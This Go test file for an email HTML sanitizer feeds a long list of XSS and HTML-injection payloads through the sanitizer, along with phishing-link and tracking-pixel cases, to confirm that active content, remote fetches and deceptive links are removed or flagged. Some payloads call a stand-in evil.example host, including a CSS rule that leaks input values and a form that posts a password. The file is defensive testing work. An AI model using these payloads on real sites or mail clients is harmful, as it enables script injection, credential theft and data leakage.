package letter

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// hostile is HTML of which nothing may be left that does something. Each also stands in
// the seeds of FuzzHTML.
var hostile = []string{
	`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<script/x>alert(1)</script>`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>", `<<script>alert(1)//<</script>`, `<script`, `<script>`, `</script><script>alert(1)`,
	`<img src=x onerror=alert(1)>`, `<img/src="x"/onerror=alert(1)>`, `<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
	`<img src="javascript:alert(1)">`, "<img src=\"jav\tascript:alert(1)\">", `<img src=data:image/svg+xml;base64,PHN2Zz4=>`,
	`<img src="data:text/html;base64,PHNjcmlwdD4=">`, `<img srcset="https://evil.example/x 2x" src=cid:none>`,
	`<img src=x:x lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`, "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="&#106;avascript:alert(1)">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="//evil.example">x</a>`, `<a href="/log-out">x</a>`, `<a href="https:evil.example">x</a>`, `<a href="file:///etc/passwd">x</a>`,
	`<a href="https://x" target=_self onclick=alert(1) ping="https://evil.example">x</a>`, `<a name="x" id="db-target">x</a>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`, `<svg/onload=alert(1)//><p onclick=alert(1)>x`,
	`<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>`, `<svg><use href="https://evil.example/x#y"/></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math href="javascript:alert(1)">x</math>`, `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
	`<form action="https://evil.example"><input name=pw type=password><button formaction=javascript:alert(1)>ok</button></form>`,
	`<input autofocus onfocus=alert(1)>`, `<select><option>x</select>`, `<textarea><img src=x onerror=alert(1)></textarea>`,
	`<isindex action=javascript:alert(1) type=submit>`, `<details open ontoggle=alert(1)>x</details>`, `<keygen autofocus onfocus=alert(1)>`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>`,
	`<object data="javascript:alert(1)"></object>`, `<embed src="javascript:alert(1)">`, `<applet code=x></applet>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<meta http-equiv=Set-Cookie content=x>`, `<base href="https://evil.example/">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`, `<link rel="dns-prefetch" href="//evil.example">`, `<link rel=import href=x>`,
	`<style>@import "https://evil.example/x.css";</style>`, `<style>@import url(https://evil.example/x.css);p{color:red}</style>`,
	`<style>p{background:url(https://evil.example/x)}</style>`, `<style>@font-face{font-family:x;src:url(https://evil.example/x)}</style>`,
	`<style>a{x:expression(alert(1))}</style>`, `<style></style><script>alert(1)</script>`, `<style>p{}</style/><img src=x onerror=alert(1)>`,
	`<style>p{color:red;}}</style><img src=x onerror=alert(1)>`, `<style><!--</style><img src=x onerror=alert(1)>--></style>`,
	`<style>input[value^=a]{background:url(//evil.example/a)}</style>`, `<style>.db-target{display:none!important}</style>`,
	`<style>p:before{content:"x"}</style>`, `<style>@media screen{p{position:fixed}}</style>`, "<style>p{color:r\\65 d}</style>",
	`<p style="background:url(javascript:alert(1))">x`, `<p style="background:u\72l(https://evil.example/x)">x`,
	`<p style="width:expression(alert(1))">x`, `<p style="width:expr/**/ession(alert(1))">x`, `<p style="xss:expr/*XSS*/ession(alert(1))">x`,
	`<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Log in again</p>`, `<p style="-moz-binding:url(x)">x`,
	`<p style="behavior:url(x)">x`, `<p style="margin-top:-500px">x`, `<p style="background-image:image-set('https://evil.example/x' 1x)">x`,
	`<p style="color:red;<script>alert(1)</script>">x`, `<p style='font-family:"x&quot;><script>alert(1)</script>"'>x`,
	`<p style="--x:url(https://evil.example);background:var(--x)">x`, `<div style="background-image:\0075rl(https://evil.example/x)">x`,
	`<table background="https://evil.example/x"><tr><td background="javascript:alert(1)">x</table>`, `<body onload=alert(1) background="https://evil.example/x">x`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<xmp><img src=x onerror=alert(1)></xmp>`,
	`<noembed><img src=x onerror=alert(1)></noembed>`, `<plaintext><img src=x onerror=alert(1)>`, `<title><img src=x onerror=alert(1)></title>`,
	`<template><script>alert(1)</script></template>`, `<!--><script>alert(1)</script>-->`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`, `<!DOCTYPE x [<!ENTITY x "y">]>&x;`,
	`<p/onclick=alert(1)>x`, `<p "onclick=alert(1)>x`, "<p\x0bonclick=alert(1)>x", `<p a='b"c=d' onmouseover="alert(1)">x`, `<p title='"><script>alert(1)</script>'>x`,
	`<b><table><td><a><table></b></a><p></table><svg><p><style><g title="</style><img src=x onerror=alert(1)>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<video src="https://evil.example/x" poster="https://evil.example/y" autoplay></video>`, `<audio src="https://evil.example/x"></audio>`,
	`<marquee onstart=alert(1)>x</marquee>`, `<bgsound src="https://evil.example/x">`, `<layer src=x></layer>`, `<dialog open>x</dialog>`,
	`<a href="https://x"><a href="https://y">z</a></a>`, `<area href="javascript:alert(1)">`, `<map name=x><area shape=default href=javascript:alert(1)></map><img usemap="#x" src="cid:x">`,
	`<span class="db-target" style="color:green">[sparkasse.example]</span>`, `<p dir="javascript:x" lang='"><script>'>x`, `<bdo dir=rtl>gpj.exe</bdo>`,
	`<xss id=x tabindex=1 onfocus=alert(1) contenteditable>x</xss>`, `<p is="evil" slot=x part=y accesskey=z>x`, `<image src=x onerror=alert(1)>`,
	"<p>\u202egnp.exe", "<a href=\"https://\u202eexample.org\">x</a>", `<a href="https://user:pw@evil.example">x</a>`,
}

func TestNothingHostileIsLeftOfHTML(t *testing.T) {
	for _, page := range hostile {
		for _, remote := range []bool{false, true} {
			safe, _ := read(t, htmlMail(page)).HTML(HTMLOptions{Remote: remote})
			if wrong := checkPage(safe, remote); len(wrong) > 0 {
				t.Errorf("%q became %q, which holds %q", page, bodyOf(safe), wrong)
			}
			if s := bodyOf(safe); strings.Contains(s, "alert(1)\"") || strings.Contains(s, "<script") {
				t.Errorf("%q became %q", page, s)
			}
		}
	}
}

func TestWhatWasActiveIsSaid(t *testing.T) {
	for _, page := range []string{"<script>x</script>", "<form>x</form>", "<svg></svg>", "<iframe src=x></iframe>", "<input>"} {
		l := read(t, htmlMail(page))
		l.HTML(HTMLOptions{})
		if got := fmt.Sprint(l.Left()); got != "[active]" {
			t.Errorf("%q: left out %v, wanted [active]", page, got)
		}
	}
	l := read(t, htmlMail("<p>x<table><tr><td>y</table>"))
	if l.HTML(HTMLOptions{}); len(l.Left()) > 0 {
		t.Errorf("of a harmless page %v was left out", l.Left())
	}
}

func TestRemoteContentsAreCountedAndLeftOutUntilAskedFor(t *testing.T) {
	for page, want := range map[string]int{
		`<img src="https://news.example/a.png" width=600><img src="http://news.example/b.png">`:                              2,
		`<img src="//news.example/a.png"><img src="cid:x"><img src="data:image/png;base64,AAAA">`:                            1,
		`<table background="https://news.example/x"><tr><td style="background:#fff url('https://news.example/y')">x</table>`: 2,
		`<style>@import url("https://news.example/x.css");h1{background:url(https://news.example/y)}</style>`:                2,
		`<style>@import "https://news.example/x.css";</style><link rel=stylesheet href=https://news.example/z.css>`:          2,
		`<video poster="https://news.example/x"></video><iframe src="https://news.example/x"></iframe>`:                      2,
		`<p>nothing</p>`: 0,
	} {
		safe, got := read(t, htmlMail(page)).HTML(HTMLOptions{})
		if got != want {
			t.Errorf("%s: counted %d, wanted %d", page, got, want)
		}
		if strings.Contains(bodyOf(safe), "news.example") {
			t.Errorf("%s: became %s", page, bodyOf(safe))
		}
	}
}

func TestPicturesOfTheInternetComeOverHTTPSAlone(t *testing.T) {
	page := `<img src="http://news.example/a.png" width="600" alt="Spring"><img src="https://news.example:8443/b.png">` +
		`<img src="http://news.example:8080/c.png"><img src="https://u:p@news.example/d.png">` +
		`<img src="https://spy.example/pixel" width=1 height=1><img src="https://spy.example/2" style="display: none"><img src="https://spy.example/3" style="width:1px">`
	safe, remote := read(t, htmlMail(page)).HTML(HTMLOptions{Remote: true})
	body := bodyOf(safe)
	for _, want := range []string{`src="https://news.example/a.png" alt="Spring"`, `src="https://news.example:8443/b.png"`} {
		if !strings.Contains(body, want) {
			t.Errorf("wanted %s in %s", want, body)
		}
	}
	if strings.Contains(body, "spy.example") || strings.Contains(body, "c.png") || strings.Contains(body, "d.png") || remote != 5 {
		t.Errorf("wanted five left out, got %d: %s", remote, body)
	}
	if !strings.Contains(string(safe), "img-src data: &#39;self&#39; https:") {
		t.Errorf("the policy does not allow pictures: %s", safe[:400])
	}
}

func TestLinksShowWhereTheyLead(t *testing.T) {
	warned := func(s string) string { return `[` + s + `]</span>` }
	for _, c := range []struct{ page, want, not string }{
		{`<a href="https://evil.example/x">www.sparkasse.de</a>`, warned("evil.example"), ""},
		{`<a href="https://evil.example/x">https://www.sparkasse.de/log-in</a>`, warned("evil.example"), ""},
		{`<a href="https://www.sparkasse.de/x">sparkasse.de</a>`, `title="https://www.sparkasse.de/x"`, "db-target"},
		{`<a href="https://news.example/x">Read z.B. more</a>`, `href="https://news.example/x"`, "db-target"},
		{`<a href="https://sparkasse.de@evil.example/">here</a>`, warned("evil.example"), ""},
		{`<a href="https://sp` + "\u0430" + `rkasse.de">sparkasse.de</a>`, warned("xn--sprkasse-26g.de"), ""},
		{`<a href="mailto:thief@evil.example">office@city.de</a>`, warned("thief@evil.example"), ""},
		{`<a href="mailto:office@city.de?subject=x">office@city.de</a>`, `href="mailto:office@city.de?subject=x"`, "db-target"},
		{`<a href="https://evil.example"><b>spark</b>asse.de</a>`, warned("evil.example"), ""},
		{`<a href="https://evil.example">sparkasse.de`, warned("evil.example"), ""},
		{`<a href="https:\\evil.example\x">x</a>`, `href="https://evil.example/x"`, ""},
		{`<a href="tel:+49123">Call</a>`, `href="tel:+49123"`, ""},
		{`<a href="#top">up</a>`, `href="#top">up`, "_blank"},
	} {
		safe, _ := read(t, htmlMail(c.page)).HTML(HTMLOptions{})
		body := bodyOf(safe)
		if !strings.Contains(body, c.want) || c.not != "" && strings.Contains(body, c.not) {
			t.Errorf("%s: got %s, wanted %s and not %q", c.page, body, c.want, c.not)
		}
	}
}

func TestStylesNeitherFetchNorMoveNorHideWhatWeSay(t *testing.T) {
	for style, want := range map[string]string{
		"color:red":                                "color:red",
		"COLOR : Red ; Margin:0 AUTO":              "color:Red;margin:0 AUTO",
		"margin-top:-500px;color:red":              "color:red",
		"margin:0 -20px":                           "",
		"text-indent:-9999px":                      "",
		"letter-spacing:-.5px":                     "",
		"background:#fff url(http://x/y) top":      "background:#fff top",
		"background:URL(//x)":                      "",
		"color:red!important":                      "color:red",
		"color:red!x":                              "",
		"width:calc(100% - 3px)":                   "",
		"font-family:'Open Sans',\"Arial\"":        "font-family:'Open Sans',\"Arial\"",
		"font-family:'a;color:red":                 "color:red",
		"width:100px\\9;color:red":                 "color:red",
		"color:r/**/ed":                            "color:red",
		"color:/* x":                               "",
		"position:absolute;top:0":                  "",
		"direction:rtl;unicode-bidi:bidi-override": "",
	} {
		if got, _ := cleanStyle(style, false); got != want {
			t.Errorf("%s: got %q, wanted %q", style, got, want)
		}
	}
	for sheet, want := range map[string]string{
		".sm\\:w{width:1px} p{color:red}":                                "p{color:red}\n",
		"a{content:\"}\"} b{color:red}":                                  "b{color:red}\n",
		".db-target{display:none} p{color:red!important}":                "p{color:red!important}\n",
		"@media print{p{color:red} @media x{b{color:red}}} b{color:red}": "@media print{p{color:red}\n}\nb{color:red}\n",
		"@supports (a:b){p{color:red}} i{color:red}":                     "i{color:red}\n",
		"p{color:red":                  "p{color:red}\n",
		"</style><script>p{color:red}": "",
		"p[title=x]{color:red}":        "",
	} {
		if got, _ := cleanSheet(sheet); got != want {
			t.Errorf("%s: got %q, wanted %q", sheet, got, want)
		}
	}
}

func TestNewslettersStayReadable(t *testing.T) {
	page := `<html><head><style type="text/css">
		/* all */ .col{width:300px} @media only screen and (max-width: 600px){ .col { width:100% !important; display:block!important } }
		#top > td:first-child { color:#FF0000; font-family:'Open Sans',Arial,sans-serif }</style></head>
		<body bgcolor="#eeeeee" style="margin:0;padding:0"><table width="100%" cellpadding="0" cellspacing="0" border="0"><tr id="top">
		<td class="col" align="center" style="font-size:14px; line-height:1.4; color:rgb(10, 20, 30); border:1px solid #ccc">Guten Tag &amp; willkommen &lt;hier&gt;</td></tr></table>
		<ul><li>eins<li>zwei</ul><p>a<p>b</body></html>`
	safe, _ := read(t, htmlMail(page)).HTML(HTMLOptions{})
	for _, want := range []string{
		".col{width:300px}", "@media only screen and (max-width: 600px){.col{width:100%!important;display:block!important}",
		"#top > td:first-child{color:#FF0000;font-family:'Open Sans',Arial,sans-serif}",
		`<div bgcolor="#eeeeee" style="margin:0;padding:0"><table border="0" cellpadding="0" cellspacing="0" width="100%">`,
		`style="font-size:14px;line-height:1.4;color:rgb(10, 20, 30);border:1px solid #ccc">Guten Tag &amp; willkommen &lt;hier&gt;</td>`,
		"<ul><li>eins</li><li>zwei</li></ul><p>a</p><p>b</p></div>",
	} {
		if !strings.Contains(string(safe), want) {
			t.Errorf("wanted %s in\n%s", want, safe)
		}
	}
}

func TestPicturesThatCameWithTheMailAreShown(t *testing.T) {
	mail := "Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"cid:logo@x\" alt=logo><img src=cid:vector><img src=cid:none alt=\"No logo\">\r\n" +
		"--b\r\nContent-Type: image/png; name=logo.png\r\nContent-ID: <logo@x>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0K\r\n" +
		"--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <vector>\r\n\r\n<svg/>\r\n--b--\r\n"
	l := read(t, mail)
	safe, remote := l.HTML(HTMLOptions{})
	if body := bodyOf(safe); !strings.Contains(body, `src="data:image/png;base64,iVBORw0K"`) || strings.Contains(body, "svg") || !strings.Contains(body, "[No logo]") || remote != 0 {
		t.Errorf("got %d remote: %s", remote, body)
	}
	safe, _ = l.HTML(HTMLOptions{CID: func(p Part) string { return "/mail/7/part/" + p.Path }})
	if body := bodyOf(safe); !strings.Contains(body, `src="/mail/7/part/2"`) {
		t.Errorf("wanted the handler's URL, got %s", body)
	}
	safe, _ = l.HTML(HTMLOptions{CID: func(Part) string { return "javascript:alert(1)" }})
	if strings.Contains(string(safe), "javascript") {
		t.Errorf("a handler's URL that is none was taken: %s", safe)
	}
	large := strings.Replace(mail, "iVBORw0K", strings.Repeat("A", maxData/3*4+100), 1)
	l = read(t, large)
	if safe, _ := l.HTML(HTMLOptions{}); strings.Contains(string(safe), "data:image") || len(l.Left()) != 1 || l.Left()[0] != LeftPicture {
		t.Errorf("a picture of more than 8 MB: left out %v", l.Left())
	}
	parts := l.Parts()
	if parts[1].Attachment || !parts[2].Attachment {
		t.Errorf("wanted the picture that is shown in the text, and not the other, to be no attachment: %+v", parts)
	}
}

func TestAPictureCostsEachTimeItIsShown(t *testing.T) {
	l := read(t, multi("mixed", "a", "Content-Type: text/html\r\n\r\n"+strings.Repeat("<img src=cid:x>", 3),
		"Content-Type: image/png\r\nContent-ID: <x>\r\n\r\n"+strings.Repeat("x", 7<<20)))
	safe, _ := l.HTML(HTMLOptions{})
	if got := strings.Count(string(safe), "src=\"data:"); got != 1 || !slices.Equal(l.Left(), []Omission{LeftPicture}) {
		t.Errorf("a picture of 7 MB three times: %d are in the page, left out %v; wanted one, and that it is said", got, l.Left())
	}
}

func TestAPageIsBoundedWhateverItShows(t *testing.T) {
	for name, text := range map[string]string{"quotations": strings.Repeat("x\r\n>>>>>>>>x\r\n", 300_000), "links in one line": strings.Repeat("www.b.de ", 400_000)} {
		l := read(t, "\r\n"+text)
		safe, _ := l.HTML(HTMLOptions{})
		if len(safe) > maxPage+8<<10 || !slices.Equal(l.Left(), []Omission{LeftText}) {
			t.Errorf("%s: the page has %d KB, left out %v; wanted %d KB, and that it is said", name, len(safe)>>10, l.Left(), maxPage>>10)
		}
	}
}

func TestPicturesThatThePageNamesAreNoFiles(t *testing.T) {
	picture := func(cid string) string { return "Content-Type: image/png\r\nContent-ID: <" + cid + ">\r\n\r\nx" }
	page := "Content-Type: text/html\r\n\r\n<img src=cid:plain><img src='cid:a%20b@x'><img src=\"cid:a&amp;b\"><p style=\"background:url(&quot;cid:style&quot;)\">cid:plainer"
	l := read(t, multi("related", "a", page, picture("plain"), picture("a b@x"), picture("a&b"), picture("style"), picture("other"), picture("plai")))
	var files []string
	for _, p := range l.Parts() {
		if p.Attachment {
			files = append(files, p.CID)
		}
	}
	if got := strings.Join(files, " "); got != "other plai" {
		t.Errorf("listed as files: %q, wanted those that the page does not name", got)
	}
}

func TestPlainTextIsShownWithLinksAndQuotations(t *testing.T) {
	l := read(t, "Content-Type: text/plain; charset=utf-8\r\n\r\nHallo <b>,\r\n> zitiert\r\n>> doppelt\r\nsiehe (https://example.org/a_(b)?x=1&y=2). oder info@city.de, www.city.de!\r\n")
	safe, _ := l.HTML(HTMLOptions{})
	want := `<div class="db-text">Hallo &lt;b&gt;,<blockquote class="db-quote">zitiert<blockquote class="db-quote">doppelt</blockquote></blockquote>` +
		`siehe (<a href="https://example.org/a_(b)?x=1&amp;y=2" target="_blank" rel="noopener noreferrer" title="https://example.org/a_(b)?x=1&amp;y=2">https://example.org/a_(b)?x=1&amp;y=2</a>). ` +
		`oder <a href="mailto:info@city.de" target="_blank" rel="noopener noreferrer" title="mailto:info@city.de">info@city.de</a>, ` +
		`<a href="http://www.city.de" target="_blank" rel="noopener noreferrer" title="http://www.city.de">www.city.de</a>!</div>`
	if body := strings.TrimSuffix(bodyOf(safe), "\n</div>"); strings.Join(strings.Fields(body), "") != strings.Join(strings.Fields(want), "") {
		t.Errorf("got\n%s\nwanted\n%s", body, want)
	}
	if wrong := checkPage(safe, false); len(wrong) > 0 {
		t.Errorf("it holds %q", wrong)
	}
}

func TestDeepAndWideHTMLStaysSmall(t *testing.T) {
	for name, page := range map[string]string{
		"deep":       strings.Repeat("<div>", 100_000) + "x",
		"formatting": strings.Repeat("<font color=red><b><i>", 500) + strings.Repeat("<p>x", 50_000),
		"attributes": "<p " + strings.Repeat("a=b ", 200_000) + ">x",
		"tables":     strings.Repeat("<table><tr><td>", 20_000),
		"links":      strings.Repeat(`<a href="https://evil.example">sparkasse.de`, 20_000),
		"one tag":    "<p title=\"" + strings.Repeat("x", 3<<20) + "\">x",
		"rules":      "<style>" + strings.Repeat("p{color:red}", 50_000) + "</style>x",
		"open rules": "<style>" + strings.Repeat("@media x{", 50_000) + "</style>x",
		"comments":   strings.Repeat("<!-- x", 50_000),
	} {
		safe, _ := read(t, htmlMail(page)).HTML(HTMLOptions{})
		if len(safe) > maxPage+maxSheet+(1<<20) {
			t.Errorf("%s: %d bytes became %d", name, len(page), len(safe))
		}
		if wrong := checkPage(safe, false); len(wrong) > 0 {
			t.Errorf("%s: it holds %q", name, wrong[0])
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, page := range hostile {
		f.Add(page, false)
	}
	f.Fuzz(func(t *testing.T, page string, remote bool) {
		l := read(t, htmlMail(page))
		safe, _ := l.HTML(HTMLOptions{Remote: remote})
		if wrong := checkPage(safe, remote); len(wrong) > 0 {
			t.Errorf("%q became %q, which holds %q", page, bodyOf(safe), wrong)
		}
	})
}
